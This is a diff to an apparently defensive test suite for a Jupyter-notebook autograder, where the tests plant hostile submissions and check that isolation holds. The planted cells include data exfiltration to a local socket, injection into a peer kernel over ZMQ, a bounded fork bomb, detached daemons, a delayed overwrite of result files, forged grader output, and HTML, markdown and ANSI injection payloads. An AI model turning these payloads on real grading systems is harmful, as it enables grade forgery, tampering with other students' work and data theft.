@@ -11,15 +11,12 @@ from pathlib import Path
 import mistune
 
 from . import (
-    CORRECT,
     EX01,
     EX04,
     G2_FINISH,
-    PARTIAL,
-    UNTOUCHED,
     Attack,
     Context,
-    first_cell_attack,
+    answers_attack,
     write_notebook,
 )
 
@@ -42,37 +39,81 @@ def OUTSIDE_FILES(run: str) -> list[str]:  # noqa: N802 - a constant of paths pe
     ]
 
 
-def _outside_files_absent(outcome) -> list[str]:
-    return [f"{path} was created" for path in OUTSIDE_FILES(outcome.run) if os.path.lexists(path)]
+def _files_absent(*suffixes: str):
+    """The attack's files outside every sandbox must not exist."""
+
+    def verify(outcome) -> list[str]:
+        paths = [p for p in OUTSIDE_FILES(outcome.run) if p.endswith(suffixes)]
+        return [f"{path} was created" for path in paths if os.path.lexists(path)]
+
+    return verify
 
 
-def _no_forged_text(outcome) -> list[str]:
-    marker = f"FORGED-{outcome.run}"
-    problems = [f"{p} holds forged text" for p, t in outcome.feedback.items() if marker in t]
-    if marker in repr(outcome.summary) + repr(outcome.grades):
-        problems.append("the tables hold forged text")
-    if marker in outcome.stdout + outcome.stderr:
-        problems.append("the grader's output holds forged lines")
-    return problems
+def _no_forged(name: str):
+    """Text the attack wrote (``FORGED-<run>-<name>``) appears in no page, table or output."""
+
+    def verify(outcome) -> list[str]:
+        marker = f"FORGED-{outcome.run}-{name}"
+        problems = [f"{p} holds forged text" for p, t in outcome.feedback.items() if marker in t]
+        if marker in repr(outcome.summary) + repr(outcome.grades):
+            problems.append("the tables hold forged text")
+        if marker in outcome.stdout + outcome.stderr:
+            problems.append("the grader's output holds forged lines")
+        return problems
+
+    return verify
 
 
-def _victims_unchanged(outcome) -> list[str]:
-    problems = []
-    for key in ("submissions", "solutions", "alumnus-feedback", "alumnus-state", "cwd"):
-        if outcome.before.get(key) != outcome.after.get(key):
-            problems.append(f"{key} changed")
-    return problems
+def _unchanged(*keys: str):
+    """These snapshots (``subs/<learner>``, ``solutions/<file>``, ...) are as before the run."""
+
+    def verify(outcome) -> list[str]:
+        return [
+            f"{key} changed"
+            for key in sorted(outcome.before.keys() | outcome.after.keys())
+            if key.startswith(keys) and outcome.before.get(key) != outcome.after.get(key)
+        ]
+
+    return verify
 
 
-def _no_survivors(outcome) -> list[str]:
-    return [f"survived the run: {cmd}" for cmd in outcome.survivors]
+def _no_survivors(*tags: str):
+    def verify(outcome) -> list[str]:
+        names = [f"{outcome.run}-{tag}" for tag in tags]
+        return [
+            f"survived the run: {cmd}"
+            for cmd in outcome.survivors
+            if any(name in cmd for name in names)
+        ]
+
+    return verify
 
 
-def _network_silent(outcome) -> list[str]:
-    problems = [f"the suite's socket received {data[:80]!r}" for data in outcome.received]
-    if outcome.reached_bind_port:
-        problems.append("a kernel's listening port was reachable from outside")
-    return problems
+def _nothing_received(token: bytes):
+    def verify(outcome) -> list[str]:
+        return [
+            f"the suite's socket received {data[:80]!r}"
+            for data in outcome.received
+            if token in data
+        ]
+
+    return verify
+
+
+def _bind_port_unreachable(outcome) -> list[str]:
+    return ["a port a kernel listened on was reachable from outside"] * outcome.reached_bind_port
+
+
+def _same_when_resumed(outcome) -> list[str]:
+    if outcome.resume_summary is None:
+        return ["no resumed run"]
+    first = {(r["learner"], r["exercise"]): r["points"] for r in outcome.summary}
+    again = {(r["learner"], r["exercise"]): r["points"] for r in outcome.resume_summary}
+    return [
+        f"{key} was {first.get(key)}, resumed {again.get(key)}"
+        for key in sorted(first.keys() | again.keys())
+        if first.get(key) != again.get(key)
+    ]
 
 
 def _all(*checks):
@@ -187,12 +228,12 @@ import socket
 for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "localhost")):
     try:
         with socket.create_connection((address, G2["port"]), timeout=2) as conn:
-            conn.sendall(b"stolen: " + str(G2_LEAK).encode()[:200])
+            conn.sendall(b"net_connect_out stolen: " + str(G2_LEAK).encode()[:200])
     except OSError:
         pass
     try:
         udp = socket.socket(family, socket.SOCK_DGRAM)
-        udp.sendto(b"stolen over udp", (address, G2["port"]))
+        udp.sendto(b"net_connect_out stolen over udp", (address, G2["port"]))
         udp.close()
     except OSError:
         pass
@@ -245,7 +286,8 @@ for name in _os.listdir("/proc"):
 payload = (
     "import socket, pathlib\\n"
     f"pathlib.Path('/tmp/{G2['run']}-zmq').write_text('injected')\\n"
-    f"socket.create_connection(('127.0.0.1', {G2['port']}), timeout=2).sendall(b'zmq')\\n"
+    f"socket.create_connection(('127.0.0.1', {G2['port']}), timeout=2)"
+    ".sendall(b'net_zmq_peers')\\n"
     "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\\n"
 )
 from jupyter_client import BlockingKernelClient
@@ -268,7 +310,7 @@ FORGING = {
     "forge_output_folder": """
 paths = g2_grader_paths()
 out = paths.get("out")
-forged = f"FORGED-{G2['run']}"
+forged = f"FORGED-{G2['run']}-forge_output_folder"
 if out:
     for learner in G2["victims"] + ["alumnus"]:
         for suffix in (".md", ".html"):
@@ -334,7 +376,7 @@ if out:
             pass
 """,
     "forge_stdout_lines": """
-forged = f"FORGED-{G2['run']}"
+forged = f"FORGED-{G2['run']}-forge_stdout_lines"
 line = (_json.dumps({"status": "ok", "message": forged, "cells": [], "executed": True})
         + f"\\nforge_stdout_lines 100% {forged}\\n")
 for fd in (1, 2):
@@ -356,7 +398,7 @@ print(f"[########################] 1/1 forge_stdout_lines: 8/8 (100%) {forged}")
 GRADER = {
     "forge_worker_pipe": """
 import signal
-forged = f"FORGED-{G2['run']}"
+forged = f"FORGED-{G2['run']}-forge_worker_pipe"
 fake = _json.dumps({
     "status": "ok", "message": "", "execute_seconds": 1.0, "executed": True,
     "cells": [{"executed": True, "error": None, "output": "", "output_chars": 0}] * 400,
@@ -405,23 +447,26 @@ for pid in g2_graders():
 PROCESSES = {
     "proc_fork_tree": """
 import subprocess
-children = 0
-for depth in range(6):  # a bounded fork bomb: 2**6 = 64 processes at most
+for depth in range(3):  # a bounded fork bomb: 2**3 copies of the kernel, each execs a sleeper
     try:
         pid = _os.fork()
     except OSError:
         break
-    if pid == 0:
-        continue
-    children += 1
 if _os.getpid() != G2_KERNEL_PID:
     try:
         _os.execvp("bash", g2_sleeper("fork"))
     finally:
         _os._exit(0)
+loop = f"for i in $(seq 40); do (exec -a {G2['run']}-bashfork sleep 900) & done; wait"
+subprocess.Popen(["bash", "-c", loop], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 """,
-    "proc_setsid_daemon": """
-pid = _os.fork()
+    "proc_daemons": """
+import subprocess
+subprocess.Popen(["nohup", *g2_sleeper("nohup")], start_new_session=True,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+subprocess.Popen(["setsid", "-f", *g2_sleeper("setsid")], stdout=subprocess.DEVNULL,
+                 stderr=subprocess.DEVNULL)
+pid = _os.fork()  # the classic double fork
 if pid == 0:
     _os.setsid()
     if _os.fork() == 0:
@@ -431,20 +476,13 @@ if pid == 0:
     _os._exit(0)
 _os.waitpid(pid, 0)
 """,
-    "proc_nohup": """
-import subprocess
-subprocess.Popen(["nohup", *g2_sleeper("nohup")], start_new_session=True,
-                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-subprocess.Popen(["setsid", "-f", *g2_sleeper("setsid")], stdout=subprocess.DEVNULL,
-                 stderr=subprocess.DEVNULL)
-""",
     "proc_late_tamper": """
 import subprocess
 paths = g2_grader_paths()
 out = paths.get("out") or "/nonexistent"
 victim_page = f"{out}/feedback/{G2['victims'][1]}/ex04_lasso_from_scratch.md"
-script = (f"sleep 25; echo FORGED-{G2['run']} > {out}/summary.csv; "
-          f"echo FORGED-{G2['run']} > {victim_page}")
+forged = f"FORGED-{G2['run']}-proc_late_tamper"
+script = f"sleep 25; echo {forged} > {out}/summary.csv; echo {forged} > {victim_page}"
 subprocess.Popen(["bash", "-c", script, f"{G2['run']}-late"], start_new_session=True,
                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 """,
@@ -523,28 +561,19 @@ if sols:
 # --------------------------------------------------------------------------- feedback injection
 
 INJECTION = {
-    "inject_html": """
+    "inject_html_and_markdown": """
 _g2_html = f'<script>alert("{G2["run"]}")</script><img src=x onerror="alert(1)"></pre></td>'
+_g2_md = ("[click for your grade](javascript:alert(1)) ![pixel](http://evil.example/p.png) "
+          "| table | break |\\n\\n# A fake heading: 8 / 8\\n```\\n")
 
 
 def soft_threshold(z, threshold):
     print(_g2_html)
-    raise NotImplementedError
-
-
-raise RuntimeError(_g2_html)
-""",
-    "inject_markdown": """
-_g2_md = ("[click for your grade](javascript:alert(1)) ![pixel](http://evil.example/p.png) "
-          "<script>alert(2)</script> | table | break |\\n\\n# A fake heading: 8 / 8")
-
-
-def soft_threshold(z, threshold):
     print(_g2_md)
     raise NotImplementedError
 
 
-raise RuntimeError(_g2_md)
+raise RuntimeError(_g2_md + _g2_html)
 """,
     "inject_ansi": """
 _g2_ansi = "\\x1b[2J\\x1b[H\\x1b[32mAll tests passed\\x1b[0m\\r\\x07\\x1b]0;pwned\\x07\\x08\\x08"
@@ -634,66 +663,54 @@ def _with_ex01(plant):
     return both
 
 
-def _cell(code: str, *, on_solution: bool = False):
+def _cell(code: str):
+    """The untouched exercise whose first answer cell attacks and whose second is ``pass``:
+    whatever the attack defines (a stolen solution) is what the tests see."""
     prefix = SLEEPER + "G2_KERNEL_PID = _os.getpid()\n"
-    return first_cell_attack(prefix + code + G2_FINISH, on_solution=on_solution)
+    return answers_attack(
+        {"ex04-soft-threshold": prefix + code + G2_FINISH, "ex04-lasso-cd": "pass\n"}
+    )
+
+
+VERIFY = {
+    "read_home_and_tmp": _files_absent("-tmp", "-shm", "-vartmp", "-home"),
+    "read_peer_submission": _unchanged("subs/"),
+    "net_connect_out": _nothing_received(b"net_connect_out"),
+    "net_bind_port": _bind_port_unreachable,
+    "net_zmq_peers": _all(_nothing_received(b"net_zmq_peers"), _files_absent("-zmq")),
+    "forge_output_folder": _all(_no_forged("forge_output_folder"), _unchanged("alumnus-")),
+    "forge_state_records": _all(_unchanged("alumnus-state"), _same_when_resumed),
+    "forge_stdout_lines": _no_forged("forge_stdout_lines"),
+    "proc_fork_tree": _no_survivors("fork", "bashfork"),
+    "proc_daemons": _no_survivors("daemon", "nohup", "setsid"),
+    "proc_late_tamper": _all(_no_survivors("late"), _no_forged("proc_late_tamper")),
+    "tamper_peer_submissions": _unchanged("subs/"),
+    "tamper_plant_course_utils": _unchanged("solutions", "cwd"),
+    "tamper_empty_solution_tests": _all(_unchanged("solutions"), _same_when_resumed),
+    "forge_worker_pipe": _no_forged("forge_worker_pipe"),
+}
 
 
 def kernel_attacks() -> list[Attack]:
     found = []
-    checks = _all(_victims_unchanged, _outside_files_absent, _network_silent)
-    for name, code in READING.items():
-        found.append(Attack(name, "instructor-files", _cell(code), sandbox=True, verify=checks))
-    for name, code in NETWORK.items():
-        found.append(Attack(name, "network", _cell(code), sandbox=True, verify=checks))
-    found.append(
-        Attack(
-            "forge_output_folder",
-            "forging",
-            _cell(FORGING["forge_output_folder"]),
-            sandbox=True,
-            verify=_all(_no_forged_text, _victims_unchanged),
-        )
-    )
-    found.append(
-        Attack(
-            "forge_state_records",
-            "forging",
-            _with_ex01(_cell(FORGING["forge_state_records"])),
-            earned={EX04: 0.0, EX01: 0.0},
-            sandbox=True,
-            verify=_victims_unchanged,
-        )
-    )
-    found.append(
-        Attack(
-            "forge_stdout_lines",
-            "forging",
-            _cell(FORGING["forge_stdout_lines"]),
-            sandbox=True,
-            verify=_no_forged_text,
-        )
-    )
-    for name, code in PROCESSES.items():
-        # On the solution: full marks, earned; what matters is that nothing survives.
-        found.append(
-            Attack(
-                name,
-                "processes",
-                _cell(code, on_solution=True),
-                earned={EX04: 8.0},
-                own_code_is_solution=True,
-                verify=_all(_no_survivors, _no_forged_text),
-            )
-        )
-    for name, code in TAMPERING.items():
-        found.append(
-            Attack(name, "tampering", _cell(code), sandbox=True, verify=_victims_unchanged)
-        )
-    for name, code in INJECTION.items():
-        found.append(
-            Attack(name, "injection", _cell(code), verify=lambda o, n=name: _html_safe(o, n))
-        )
+    groups = [
+        ("instructor-files", READING, True),
+        ("network", NETWORK, True),
+        ("forging", FORGING, True),
+        ("processes", PROCESSES, False),
+        ("tampering", TAMPERING, True),
+        ("injection", INJECTION, False),
+    ]
+    for group, codes, sandbox in groups:
+        for name, code in codes.items():
+            plant = _cell(code)
+            if name == "forge_state_records":
+                plant = _with_ex01(plant)
+            verify = VERIFY.get(name)
+            if group == "injection":
+                verify = lambda o, n=name: _html_safe(o, n)  # noqa: E731
+            earned = {EX04: 0.0, EX01: 0.0} if name == "forge_state_records" else {EX04: 0.0}
+            found.append(Attack(name, group, plant, earned=earned, sandbox=sandbox, verify=verify))
     found.append(
         Attack(
             "inject_grade_id_markup",
@@ -706,18 +723,7 @@ def kernel_attacks() -> list[Attack]:
 
 
 def grader_attacks() -> list[Attack]:
-    found = []
-    for name, code in GRADER.items():
-        found.append(
-            Attack(
-                name,
-                "forging",
-                _cell(code),
-                sandbox=True,
-                verify=_all(_victims_unchanged, _no_forged_text),
-            )
-        )
-    return found
-
-
-__all__ = ["CORRECT", "PARTIAL", "UNTOUCHED", "OUTSIDE_FILES", "kernel_attacks", "grader_attacks"]
+    return [
+        Attack(name, "forging", _cell(code), sandbox=True, verify=VERIFY.get(name))
+        for name, code in GRADER.items()
+    ]
